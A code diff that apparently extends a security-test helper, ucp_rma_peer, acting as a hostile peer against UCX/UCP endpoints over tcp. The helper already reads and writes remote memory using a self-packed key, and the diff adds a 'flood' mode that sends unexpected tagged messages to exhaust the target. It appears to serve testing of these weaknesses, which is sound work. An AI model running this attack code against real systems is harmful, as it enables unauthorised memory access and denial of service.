@@ -3,6 +3,8 @@
  *
  *   ucp_rma_peer HOST PORT ADDR LEN get          prints "get ok HEX" or "get failed WHY"
  *   ucp_rma_peer HOST PORT ADDR LEN put BYTE     prints "put ok" or "put failed WHY"
+ *   ucp_rma_peer HOST PORT COUNT LEN flood       sends COUNT tagged messages of LEN
+ *                                                bytes nobody expects; prints "flood N"
  *
  * The remote key is one this peer packs for its own memory: over tcp UCP
  * carries no remote key material, so that is all an attacker needs when the
@@ -62,6 +64,26 @@ int main(int argc, char **argv) {
     ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
     ucp_ep_h ep;
     if (ucp_ep_create(worker, &ep_params, &ep) != UCS_OK) { printf("%s failed connect\n", argv[5]); return 0; }
+
+    if (strcmp(argv[5], "flood") == 0) {
+        char *payload = calloc(1, len);
+        size_t sent = 0;
+        double stop = now() + 30.0;
+        ucp_request_param_t sp = {0};
+        for (uint64_t i = 0; i < addr && now() < stop; i++) {
+            void *r = ucp_tag_send_nbx(ep, payload, len, 0xdead000000000000ull + i, &sp);
+            if (UCS_PTR_IS_ERR(r)) break;
+            while (r != NULL && ucp_request_check_status(r) == UCS_INPROGRESS && now() < stop)
+                ucp_worker_progress(worker);
+            if (r != NULL) ucp_request_free(r);
+            sent++;
+        }
+        double until = now() + 1.0;
+        while (now() < until) ucp_worker_progress(worker);
+        printf("flood %zu\n", sent);
+        fflush(stdout);
+        _exit(0);
+    }
 
     char *local = malloc(len);
     memset(local, put ? fill : 0, len);
